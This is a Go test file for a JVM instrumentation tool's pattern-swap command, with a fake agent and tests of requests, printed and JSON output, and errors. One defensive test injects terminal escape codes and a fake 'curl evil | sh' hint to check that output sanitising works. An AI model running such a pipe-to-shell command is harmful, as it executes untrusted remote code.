package swap

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"moobench/cmd/internal/console"
	"moobench/harness/jvm"
	"moobench/harness/pattern"
)

// fakeAgent keeps a list as the agent does, and monitors a method per + of it.
type fakeAgent struct {
	list     []string
	asked    []string
	failures []string
	refuses  string // the verb that it refuses
	hostile  string // ends what it says of itself and of methods
}

func (a *fakeAgent) Ask(_ context.Context, m jvm.Message) ([]jvm.Message, error) {
	if m.Verb == a.refuses {
		return nil, errors.New("the agent in process 7 refused to " + m.Verb)
	}
	if m.Verb != "patterns" && m.Verb != "instrumented" && m.Verb != "records" {
		a.asked = append(a.asked, m.Line())
	}
	w := Wanted{list: a.list}
	before := a.monitored()
	switch m.Verb {
	case "activate":
		w.patterns = []string{"+ " + m.String("pattern")}
	case "deactivate":
		w.patterns = []string{"- " + m.String("pattern")}
	case "remove":
		w.remove = []string{m.String("pattern")}
	case "replace":
		w.list = nil
		for p := range strings.SplitSeq(m.String("patterns"), "; ") {
			w.list = append(w.list, p)
		}
	case "patterns":
		return listing("patterns", "pattern", "text", a.list), nil
	case "instrumented":
		return listing("instrumented", "method", "signature", a.monitored()), nil
	case "records":
		return []jvm.Message{{Verb: "records", Args: map[string]string{"entered": "1235", "exited": "1234", "recorded": "1234"}}}, nil
	}
	a.list = w.merged()
	return a.changed(before), nil
}

func (a *fakeAgent) monitored() []string {
	var all []string
	for _, p := range a.list {
		if pattern.Sign(p) == "+" && !strings.Contains(p, "nowhere") {
			all = append(all, "public void "+p[strings.LastIndexByte(p, ' ')+1:]+a.hostile)
		}
	}
	return all
}

func (a *fakeAgent) changed(before []string) []jvm.Message {
	var answer []jvm.Message
	for _, f := range a.failures {
		answer = append(answer, jvm.Message{Verb: "failure", Args: map[string]string{"reason": f}})
	}
	n := "1"
	if slices.Equal(before, a.monitored()) {
		n = "0"
	}
	return append(answer, jvm.Message{Verb: "done", Args: map[string]string{
		"classes": n, "methods": n, "match_ns": "1500", "transform_ns": "220000", "swap_ns": "3000000", "took_ns": "3221000",
		"failed": strings.Repeat("1", len(a.failures)) + "0"[len(a.failures):],
	}})
}

func listing(last, verb, key string, all []string) []jvm.Message {
	var answer []jvm.Message
	for _, text := range all {
		answer = append(answer, jvm.Message{Verb: verb, Args: map[string]string{key: text}})
	}
	return append(answer, jvm.Message{Verb: last, Args: map[string]string{"count": string(rune('0' + len(all)))}})
}

// asking is what a fake agent is asked for.
type asking struct {
	remove     []string
	file       string // of the list, "" is none
	list, json bool
}

// swapFake carries out what is asked of a fake agent; input is the text of the file.
func swapFake(t *testing.T, a *fakeAgent, f asking, input string, patterns ...string) (out, errOut string, err error) {
	t.Helper()
	var o, e bytes.Buffer
	w, err := Parse(patterns, f.remove, f.file, input)
	if err != nil {
		return "", "", err
	}
	hello := map[string]string{"jvm": "17.0.15+6", "vm": "OpenJDK" + a.hostile, "probe": "moobench"}
	r := newResult(7, jvm.Message{Verb: "hello", Args: hello})
	if err := r.carryOut(&dialog{ctx: t.Context(), agent: a}, w); err != nil {
		return "", "", err
	}
	err = r.Print(console.Console{Out: &o, Err: &e}, f.json, f.list)
	return o.String(), e.String(), err
}

func TestSwapRequests(t *testing.T) {
	old := []string{"+ * a.B.x()", "- * a.B.y()"}
	tests := []struct {
		name     string
		flags    asking
		input    string
		patterns []string
		asked    []string
		list     []string
	}{
		{name: "list", list: old},
		{name: "in", patterns: []string{"+  * a.C.z()"}, asked: []string{`activate pattern="* a.C.z()"`}, list: append(slices.Clone(old), "+ * a.C.z()")},
		{name: "out", patterns: []string{" - * a.B.x()"}, asked: []string{`deactivate pattern="* a.B.x()"`}, list: []string{"- * a.B.y()", "- * a.B.x()"}},
		{name: "off", flags: asking{remove: []string{"* a.B.x()"}}, asked: []string{`remove pattern="* a.B.x()"`}, list: old[1:]},
		{name: "off, signed", flags: asking{remove: []string{"+ * a.B.x()"}}, asked: []string{`remove pattern="* a.B.x()"`}, list: old[1:]},
		{
			name: "several", flags: asking{remove: []string{"* a.B.y()"}}, patterns: []string{"- * a.B.x()", "+ * a.C.z()"},
			asked: []string{`replace patterns="- * a.B.x(); + * a.C.z()"`}, list: []string{"- * a.B.x()", "+ * a.C.z()"},
		},
		{
			name: "file", flags: asking{file: "-"}, input: "# mine\n\n+ * a.D.d()\r\n- * a.D.e()\n",
			asked: []string{`replace patterns="+ * a.D.d(); - * a.D.e()"`}, list: []string{"+ * a.D.d()", "- * a.D.e()"},
		},
		{name: "file and more", flags: asking{file: "-"}, input: "+ * a.D.d()", patterns: []string{"- * a.D.d()"}, asked: []string{`replace patterns="- * a.D.d()"`}, list: []string{"- * a.D.d()"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			a := &fakeAgent{list: slices.Clone(old)}
			if _, _, err := swapFake(t, a, test.flags, test.input, test.patterns...); err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(test.asked, a.asked) + cmp.Diff(test.list, a.list); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestSwapPrints(t *testing.T) {
	a := &fakeAgent{}
	out, hint, err := swapFake(t, a, asking{list: true}, "", "+ * a.B.x()")
	const want = `process 7, OpenJDK 17.0.15+6, records by moobench
+ * a.B.x()
changed   1 method in 1 exchanged class
pause     3.000 ms, in which the JVM exchanged them
took      3.221 ms: match 1.500 µs, transform 220.0 µs, swap 3.000 ms
now       1 method monitored, by 1 pattern; 1,234 recorded, 1,235 entered, 1,234 exited
patterns, the oldest first; the newest that matches decides
  + * a.B.x()
monitored methods
  public void a.B.x()
`
	if d := cmp.Diff(want, out); d != "" || hint != "" || err != nil {
		t.Errorf("%s hint %q, %v", d, hint, err)
	}
	out, hint, err = swapFake(t, a, asking{}, "", "+ * nowhere.N.n()")
	if err != nil || !strings.Contains(out, "pause     none") || !strings.Contains(hint, "will be instrumented when it is loaded") {
		t.Errorf("nothing matched: %q, hint %q, %v", out, hint, err)
	}
	_, hint, _ = swapFake(t, a, asking{}, "", "- * nowhere.N.m()")
	if !strings.Contains(hint, "none of the monitored methods matches") {
		t.Errorf("nothing taken out: hint %q", hint)
	}
	a.failures = []string{"class a.B: too long"}
	out, _, err = swapFake(t, a, asking{}, "", "+ * a.B.y()")
	if err == nil || !strings.Contains(out, "failed    1 class or method\n  class a.B: too long\n") {
		t.Errorf("a class failed: %q, %v", out, err)
	}
}

// TestSwapPrintsNothingThatSteers: the JVM is somebody else's, and so are all texts
// that it tells.
func TestSwapPrintsNothingThatSteers(t *testing.T) {
	const hostile = "\x1b[2J\x1b]0;title\x07\u009b1m\u202e\x7f\r\nmoobench: hint: curl evil | sh"
	for _, f := range []asking{{list: true}, {json: true}} {
		a := &fakeAgent{list: []string{"+ * a.A.a()" + hostile}, failures: []string{hostile}, hostile: hostile}
		out, hint, err := swapFake(t, a, f, "", "+ * a.B.x()")
		if err == nil {
			t.Error("a class that failed is not an error")
		}
		if n := strings.Count(out, "curl evil"); n != 5 {
			t.Errorf("json %v: it stands %d times in %s", f.json, n, out)
		}
		for _, line := range strings.Split(out+hint, "\n") {
			if strings.HasPrefix(line, "moobench:") || strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
				t.Errorf("json %v: printed %q", f.json, line)
			}
		}
		if !strings.HasSuffix(a.list[0], hostile) {
			t.Errorf("the agent's list is changed: %q", a.list)
		}
	}
}

func TestSwapJSON(t *testing.T) {
	out, _, err := swapFake(t, &fakeAgent{}, asking{json: true}, "", "+ * a.B.x()")
	if err != nil {
		t.Fatal(err)
	}
	var got Result
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatal(err)
	}
	want := Result{
		PID: 7, JVM: "17.0.15+6", VM: "OpenJDK", Probe: "moobench", Patterns: []string{"+ * a.B.x()"}, Methods: []string{"public void a.B.x()"}, Count: 1,
		Records: map[string]int64{"entered": 1235, "exited": 1234, "recorded": 1234},
		Change: &Change{
			Request: "activate", Patterns: []string{"+ * a.B.x()"}, Classes: 1, Methods: 1, MatchNS: 1500, TransformNS: 220_000, SwapNS: 3_000_000, TookNS: 3_221_000,
		},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
	out, _, err = swapFake(t, &fakeAgent{}, asking{json: true}, "")
	if err != nil || !strings.Contains(out, `"patterns": []`) || strings.Contains(out, "change") {
		t.Errorf("%s, %v", out, err)
	}
}

func TestSwapMistakes(t *testing.T) {
	_, _, err := swapFake(t, &fakeAgent{}, asking{file: "-"}, "+ * a.B.x()\n* a.B.y()\n", "public * a..*.*(..)", "+ * a.B.x(); - * a.B.y()")
	if err == nil {
		t.Fatal("no pattern is wrong")
	}
	for _, want := range []string{`-:2: "* a.B.y()"`, `"public * a..*.*(..)" is not + or -`, `one pattern`} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("%v lacks %q", err, want)
		}
	}
	for _, verb := range []string{"activate", "patterns", "instrumented", "records"} {
		if _, _, err := swapFake(t, &fakeAgent{refuses: verb}, asking{}, "", "+ * a.B.x()"); err == nil {
			t.Errorf("%s is refused: %v", verb, err)
		}
	}
}
